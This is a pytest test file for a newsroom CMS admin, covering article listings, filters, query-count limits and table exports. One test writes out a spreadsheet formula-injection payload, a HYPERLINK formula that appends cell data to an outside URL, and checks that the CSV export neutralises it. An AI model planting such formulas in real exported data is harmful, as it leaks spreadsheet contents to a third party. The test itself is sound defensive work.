"""The desk's lists find, filter and sort, and cost the same for twenty articles as for a hundred."""

import csv
from datetime import UTC, datetime
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from articles.models import ArticlePage, Byline, Promotion
from content.models import Masthead
from tests.factories import (
    make_article,
    make_author,
    make_entry,
    make_photo,
    make_section,
    make_series,
    make_topic,
    with_locale,
)

ARTICLES, ENTRIES = "/admin/articles/", "/admin/entries/"
AUTHORS, TOPICS = "/admin/snippets/articles/author/", "/admin/snippets/articles/topic/"
PROMOTIONS, MASTHEADS = "/admin/snippets/articles/promotion/", "/admin/snippets/content/masthead/"


@pytest.fixture
def desk(signed_in: Any) -> Any:
    return signed_in("Publisher")


def titles(response: Any) -> list[str]:
    assert response.status_code == 200, response.status_code
    return [article.title for article in response.context["object_list"]]


def test_articles_are_listed_newest_first_and_drafts_on_top(desk: Any, section: Any) -> None:
    make_article(section, "Of 1987", published_on=datetime(1987, 5, 1, tzinfo=UTC))
    make_article(section, "Of 2020", published_on=datetime(2020, 5, 1, tzinfo=UTC))
    make_article(section, "Unfinished", live=False)
    assert titles(desk.get(ARTICLES)) == ["Unfinished", "Of 2020", "Of 1987"]
    assert titles(desk.get(ARTICLES, {"ordering": "published_on"})) == ["Of 1987", "Of 2020", "Unfinished"]


def test_the_list_shows_bylines_place_and_number(desk: Any, front: Any, section: Any) -> None:
    make_article(section, "Salt", authors=[make_author("Inés Carraway")], bylines=["A reader in Cleveland"])
    make_entry(make_series(front, "Cold Cases"), "87", "The Barge")
    html = desk.get(ARTICLES).content.decode()
    assert "By Inés Carraway and A reader in Cleveland" in html
    assert "Places" in html
    assert " ".join(html.split()).count("Cold Cases</a> 87") == 1


def test_entries_have_a_list_of_their_own(desk: Any, front: Any, section: Any) -> None:
    make_article(section, "Salt")
    series = make_series(front, "Cold Cases")
    make_entry(series, "10", "Ten")
    make_entry(series, "9", "Nine")
    assert titles(desk.get(ENTRIES, {"ordering": "position"})) == ["Nine", "Ten"]
    assert titles(desk.get(ENTRIES, {"series": series.pk})) == ["Ten", "Nine"]


@pytest.mark.parametrize("searching", [{}, {"q": "harbour"}], ids=["browsing", "searching"])
def test_filters_narrow_the_list(desk: Any, front: Any, section: Any, searching: dict[str, str]) -> None:
    other = make_section(front, "Work")
    below = make_section(section, "Quays")
    author, topic = make_author("Inés Carraway"), make_topic("Salt")
    make_article(below, "Harbour one", authors=[author], published_on=datetime(1987, 5, 1, tzinfo=UTC))
    make_article(other, "Harbour two", topics=[topic], published_on=datetime(1988, 5, 1, tzinfo=UTC))
    make_article(other, "Harbour three", live=False)

    def found(**filters: Any) -> list[str]:
        return sorted(titles(desk.get(ARTICLES, {**searching, **filters})))

    assert found() == ["Harbour one", "Harbour three", "Harbour two"]
    assert found(section=section.pk) == ["Harbour one"]
    assert found(author=author.pk) == ["Harbour one"]
    assert found(topic=topic.pk) == ["Harbour two"]
    assert found(status="draft") == ["Harbour three"]
    assert found(status="live") == ["Harbour one", "Harbour two"]
    assert found(status="scheduled") == found(status="expired") == found(status="changed") == []
    assert found(published_on_from="1988-01-01", published_on_to="1988-12-31") == ["Harbour two"]


def test_an_article_waiting_for_approval_is_found_by_its_status(desk: Any, section: Any) -> None:
    waiting = make_article(section, "Waiting", live=False)
    make_article(section, "Not waiting", live=False)
    waiting.save_revision()
    waiting.get_workflow().start(waiting, desk.user)
    assert titles(desk.get(ARTICLES, {"status": "waiting"})) == ["Waiting"]


@pytest.mark.parametrize("address", [ARTICLES, ENTRIES])
@pytest.mark.parametrize("ordering", ["title", "-published_on", "live", "position", "nonsense"])
@pytest.mark.parametrize("words", ["", "salt", "'\"*(:"])
def test_every_order_holds_with_and_without_a_search(
    desk: Any, front: Any, section: Any, address: str, ordering: str, words: str
) -> None:
    make_article(section, "Salt")
    make_entry(make_series(front), "1", "Salt again")
    assert desk.get(address, {"q": words, "ordering": ordering}).status_code == 200


@pytest.mark.parametrize("address", [ARTICLES, ENTRIES, AUTHORS, TOPICS, PROMOTIONS, MASTHEADS])
@pytest.mark.parametrize(
    "query",
    ["p=999999", "p=-1", "p=x", "author=x", "section=99999", "status=x", "published_on_from=x", "has_photo=x", "q=%20"],
)
def test_a_hostile_query_is_no_error(desk: Any, section: Any, address: str, query: str) -> None:
    make_article(section, "Salt")
    assert desk.get(f"{address}?{query}").status_code < 500


def queries_for(client: Any, address: str) -> int:
    client.get(address)  # Fills the caches of sites, menus and content types.
    with CaptureQueriesContext(connection) as captured:
        assert client.get(address).status_code == 200
    return len(captured)


def crowd(front: Any, section: Any, number: int) -> None:
    series = make_series(front, f"Series {number}")
    for _n in range(number // 2):
        make_article(section, authors=[make_author()], topics=[make_topic()])
        make_entry(series, "", authors=[make_author()], topics=[make_topic()])


@pytest.mark.parametrize("address", [ARTICLES, ENTRIES, AUTHORS, TOPICS])
def test_a_list_costs_the_same_at_20_and_at_100_articles(desk: Any, front: Any, section: Any, address: str) -> None:
    crowd(front, section, 20)
    few = queries_for(desk, address)
    crowd(front, section, 80)
    assert queries_for(desk, address) == few


def test_creating_from_the_list_asks_for_the_section(desk: Any, front: Any, section: Any) -> None:
    assert desk.get("/admin/articles/choose_parent/").headers["Location"] == (
        f"/admin/pages/add/articles/articlepage/{section.pk}/"
    )
    other = make_section(front, "Work")
    assert desk.get("/admin/articles/choose_parent/").status_code == 200
    response = desk.post("/admin/articles/choose_parent/", {"parent_page": other.pk})
    assert response.headers["Location"] == f"/admin/pages/add/articles/articlepage/{other.pk}/"


def test_an_author_is_counted_once_for_each_article(desk: Any, section: Any) -> None:
    author = make_author("Inés Carraway")
    article = make_article(section, authors=[author])
    Byline.objects.create(article=article, author=author, role="photographs")
    make_author("Nobody Yet")
    listed = {row.name: row.article_count for row in desk.get(AUTHORS).context["object_list"]}
    assert listed == {"Inés Carraway": 1, "Nobody Yet": 0}


def test_authors_are_found_by_part_of_a_name_and_by_photo(desk: Any) -> None:
    make_author("Inés Carraway", photo=make_photo())
    make_author("Hedda Marsh")

    def found(**query: Any) -> list[str]:
        return [row.name for row in desk.get(AUTHORS, query).context["object_list"]]

    assert found(q="arra") == found(q="ines CARR") == ["Inés Carraway"]
    assert found(has_photo="true") == ["Inés Carraway"]
    assert found(has_photo="false") == ["Hedda Marsh"]
    assert found(q="h", has_photo="false", ordering="-article_count") == ["Hedda Marsh"]


@pytest.mark.parametrize("address", [ARTICLES, AUTHORS, TOPICS, PROMOTIONS])
@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_lists_can_be_taken_away_as_a_table(desk: Any, section: Any, address: str, export: str) -> None:
    make_article(section, "Salt", authors=[make_author("Inés Carraway")], topics=[make_topic("Salt")])
    response = desk.get(address, {"export": export})
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert response.status_code == 200 and content
    if export == "csv" and address == ARTICLES:
        assert "By Inés Carraway" in content.decode()


@pytest.mark.parametrize("address", [ARTICLES, AUTHORS, TOPICS, PROMOTIONS])
def test_a_formula_in_a_name_stays_a_text_in_a_spreadsheet(desk: Any, section: Any, address: str) -> None:
    formula = '=HYPERLINK("https://example.org/?"&A1)'
    make_article(section, formula)
    make_author(formula)
    make_topic(formula)
    Promotion.objects.create(headline=formula)
    response = desk.get(address, {"export": "csv"})
    rows = list(csv.reader(b"".join(response.streaming_content).decode().splitlines()))
    assert any(row[0] == f"'{formula}" for row in rows)


@pytest.mark.parametrize("kind", ["author", "topic", "promotion", "masthead"])
def test_every_view_of_a_snippet_opens(desk: Any, section: Any, kind: str) -> None:
    made = {
        "author": lambda: make_author("Inés Carraway"),
        "topic": lambda: make_topic("Salt"),
        "promotion": lambda: Promotion.objects.create(**with_locale({"headline": "The Shipping Hour"})),
        "masthead": lambda: Masthead.objects.create(**with_locale({"name": "The Review"})),
    }[kind]()
    base = f"/admin/snippets/{made._meta.app_label}/{kind}/"
    for view in ("edit", "history", "usage"):
        assert desk.get(f"{base}{view}/{made.pk}/").status_code == 200, view
    if kind != "masthead":
        assert desk.get(f"{base}add/").status_code == 200
        for view in ("copy", "delete", "inspect"):
            assert desk.get(f"{base}{view}/{made.pk}/").status_code == 200, view


@pytest.mark.parametrize(("kind", "make"), [("author", make_author), ("topic", make_topic)])
def test_choosers_find_by_name(desk: Any, kind: str, make: Any) -> None:
    make("Inés Carraway")
    make("Hedda Marsh")
    response = desk.get(f"/admin/snippets/choose/articles/{kind}/results/", {"q": "ines carr"})
    assert "Carraway" in response.content.decode()
    assert "Hedda" not in response.content.decode()


def test_an_article_of_an_author_cannot_be_orphaned(desk: Any, section: Any) -> None:
    author = make_author("Inés Carraway")
    make_article(section, authors=[author])
    response = desk.post(f"{AUTHORS}delete/{author.pk}/")
    assert response.status_code < 500
    assert ArticlePage.objects.get().bylines.count() == 1
